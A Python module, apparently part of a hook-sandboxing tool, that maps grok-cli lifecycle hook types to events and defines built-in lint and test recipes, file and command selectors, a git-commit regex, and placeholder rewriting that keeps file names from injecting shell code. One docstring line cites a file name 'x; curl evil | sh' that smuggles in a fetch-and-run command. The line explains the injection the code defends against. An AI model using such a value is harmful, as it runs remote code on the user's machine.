"""grok-cli's hook-file forms (pure): lifecycle types, built-in recipes, selectors, placeholders.

What :mod:`executor.dialects.grok` reads a ``.codebuddy/hooks.json`` entry
with, kept apart so that module stays about files, payloads and answers (its
docstring tells the agent's rules and where they were read):

- **Lifecycle types**: ``lifecycle-hooks.ts``'s ``HookType`` -> hookcage's
  event, tools and commit selector (:data:`LIFECYCLE`); the other loaders'
  types and events, which nothing fires on a tool; the built-in recipes
  (:data:`BUILTIN_HOOKS`).
- **Selectors**: ``filePatterns`` and ``commandPatterns`` as RE2 matchers the
  agent skips when the event has no such field (:class:`UnlessAbsent`).
- **Placeholders**: ``${file}``/``${command}`` rewritten to quoted
  ``GROK_FILE``/``GROK_COMMAND`` references (:func:`rewrite_placeholders`),
  and how a ``script`` runs (:func:`script_command`).
"""

from __future__ import annotations

import posixpath
import shlex
import string
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from executor.core import linre
from executor.core.matchers import Aliases, Matcher, no_aliases


@dataclass(frozen=True)
class LifecycleType:
    """One lifecycle hook type: its canonical event, the tools it fires for, whether it is a commit."""

    event: str
    tools: str | None = None
    commit: bool = False


EDIT_TOOLS = "Edit|Write|MultiEdit"
LIFECYCLE: Mapping[str, LifecycleType] = {
    "pre-bash": LifecycleType("PreToolUse", "Bash"),
    "post-bash": LifecycleType("PostToolUse", "Bash"),
    "pre-edit": LifecycleType("PreToolUse", EDIT_TOOLS),
    "post-edit": LifecycleType("PostToolUse", EDIT_TOOLS),
    "pre-commit": LifecycleType("PreToolUse", "Bash", commit=True),
    "post-commit": LifecycleType("PostToolUse", "Bash", commit=True),
    "pre-prompt": LifecycleType("UserPromptSubmit"),
    "post-response": LifecycleType("Stop"),
    "on-error": LifecycleType("PostToolUseFailure"),
    "on-tool-call": LifecycleType("PreToolUse"),
}
"""``lifecycle-hooks.ts`` ``HookType`` -> hookcage's map (canonical event, tool matcher, commit selector)."""

BLOCKING_EVENTS = frozenset({"PreToolUse", "UserPromptSubmit"})
"""Where ``failOnError: true`` makes a failing hook deny (the ``pre-*`` types)."""

HOOK_SYSTEM_TYPES = frozenset({"pre-create", "post-create", "on-file-change", "on-session-start",
                               "on-session-end"})
"""``hook-system.ts`` types the lifecycle loader does not have: nothing fires them on a tool."""

ADVANCED_EVENTS = frozenset({
    "PreToolUse", "PostToolUse", "PreBash", "PostBash", "PreEdit", "PostEdit", "SessionStart", "SessionEnd",
    "PreCompact", "Notification", "SubagentStart", "SubagentStop", "PermissionRequest", "TaskCompleted", "Stop",
})
"""``advanced-hooks.ts`` ``HookEvent`` (and HookManager's): registered in code only, never from a file."""

BUILTIN_HOOKS: Mapping[str, Mapping[str, Any]] = {
    "lint-on-edit": {"type": "post-edit", "command": "npx eslint --fix ${file}", "timeout": 10000,
                     "failOnError": False, "filePatterns": ["*.ts", "*.tsx", "*.js", "*.jsx"]},
    "format-on-edit": {"type": "post-edit", "command": "npx prettier --write ${file}", "timeout": 5000,
                       "failOnError": False,
                       "filePatterns": ["*.ts", "*.tsx", "*.js", "*.jsx", "*.json", "*.md"]},
    "test-on-edit": {"type": "post-edit", "command": "npm test -- --findRelatedTests ${file}", "timeout": 60000,
                     "failOnError": False, "filePatterns": ["*.ts", "*.tsx", "*.js", "*.jsx"]},
    "pre-commit-lint": {"type": "pre-commit", "command": "npm run lint", "timeout": 30000, "failOnError": True},
    "pre-commit-test": {"type": "pre-commit", "command": "npm test", "timeout": 120000, "failOnError": True},
}
"""``lifecycle-hooks.ts`` ``BUILTIN_HOOKS`` (exact commands; all ``enabled: false`` in the agent)."""

PLACEHOLDERS: Mapping[str, str] = {"${file}": "GROK_FILE", "${command}": "GROK_COMMAND"}
"""The agent's placeholders -> the environment variables hookcage passes their values in."""
TYPE_VAR = "GROK_HOOK_TYPE"

DEFAULT_TIMEOUT_MS = 30000

# A command word `git ... commit`: `git commit`, `git -C dir commit`, `a && /usr/bin/git --no-pager
# commit -m x`, `GIT_AUTHOR_NAME=x git commit`, `sh -c 'git commit'`; not `git log commit`, `echo git commit`.
GIT_COMMIT = (r"(?:^|[;&|(){}`'\"\n])\s*(?:[A-Za-z_][A-Za-z0-9_]*=\S*\s+)*(?:\S*/)?git"
              r"(?:\s+(?:-[Cc]\s+\S+|-\S+))*\s+commit(?:[\s;&|)}`'\"]|$)")


# -- matchers --------------------------------------------------------------------------------


@dataclass(frozen=True)
class UnlessAbsent(Matcher):
    """A selector the agent skips when the event has no such field (``if (hook.filePatterns && context.file)``)."""

    def matches(self, value: str | None, *, tool: bool = False, aliases: Aliases = no_aliases) -> bool:
        return not value or super().matches(value, tool=tool, aliases=aliases)


def _literal(text: str) -> str:
    """``text`` as an RE2 literal (ASCII punctuation escaped; everything else stands for itself)."""
    return "".join("\\" + c if c in string.punctuation else c for c in text)


def file_selector(patterns: list[str]) -> Matcher:
    """``filePatterns`` on ``tool_input.file_path``: ``*x`` = the basename ends with ``x``, else the exact basename.

    Node's ``path.basename`` drops trailing slashes; a pattern holding ``/``
    can never equal or end a basename, so it selects nothing.
    """
    source = " ".join(patterns)
    parts = []
    for pattern in patterns:
        suffix = pattern[1:] if pattern.startswith("*") else None
        if "/" in pattern:
            continue
        if suffix is not None:
            parts.append(r"(?:^|/)[^/]*" + _literal(suffix) + r"/*$")
        elif pattern:
            parts.append(r"(?:^|/)" + _literal(pattern) + r"/*$")
        else:
            parts.append(r"^/+$")  # basename("/") is ""
    if not parts:
        return UnlessAbsent(source, names=frozenset())
    return UnlessAbsent(source, pattern=linre.compile("|".join(parts)))


def command_selector(patterns: list[str]) -> Matcher:
    """``commandPatterns`` on ``tool_input.command``: any pattern as a plain substring."""
    if not patterns:
        return UnlessAbsent("", names=frozenset())
    return UnlessAbsent(" ".join(patterns), pattern=linre.compile("|".join(_literal(p) for p in patterns)))


COMMIT_SELECTOR = Matcher("git commit", pattern=linre.compile(GIT_COMMIT))


# -- placeholders -----------------------------------------------------------------------------


def rewrite_placeholders(command: str) -> str:
    """``${file}`` / ``${command}`` -> a quoted reference to ``GROK_FILE`` / ``GROK_COMMAND``.

    The agent pastes the raw text in (``String.replace``), so a file named
    ``x; curl evil | sh`` runs. Here the value stays in the environment and
    the shell expands it as one word: bare ``${file}`` becomes
    ``"$GROK_FILE"``, inside double quotes ``$GROK_FILE``, inside single (or
    ``$'...'``) quotes the quote is closed around ``"$GROK_FILE"``. An escaped
    ``\\${file}`` is left alone. A parameter expansion is never parsed again
    as shell code, so a wrong guess about quoting (inside ``$(...)`` within
    double quotes, say) costs at most word splitting, never injection.
    """
    out: list[str] = []
    state = "plain"  # plain, double, single, ansi ($'...')
    i = 0
    while i < len(command):
        for holder, var in PLACEHOLDERS.items():
            if command.startswith(holder, i):
                after = command[i + len(holder):i + len(holder) + 1]
                ref = f"${{{var}}}" if after and (after.isalnum() or after == "_") else f"${var}"
                out.append({"plain": f'"${var}"', "double": ref, "single": f"'\"${var}\"'",
                            "ansi": f"'\"${var}\"$'"}[state])
                i += len(holder)
                break
        else:
            c = command[i]
            if c == "\\" and state != "single":
                out.append(command[i:i + 2])
                i += 2
                continue
            if state == "plain":
                if c == "'":
                    state = "single"
                elif c == '"':
                    state = "double"
                elif c == "$" and command.startswith("$'", i):
                    state = "ansi"
                    out.append("$'")
                    i += 2
                    continue
            elif (state == "double" and c == '"') or (state in ("single", "ansi") and c == "'"):
                state = "plain"
            out.append(c)
            i += 1
    return "".join(out)


def script_command(script: str) -> str:
    """``script`` as the agent runs it: ``node "<cwd>/<script>"`` (``path.join``: a leading ``/`` stays inside)."""
    return "node " + shlex.quote(posixpath.normpath(script.lstrip("/") or "."))
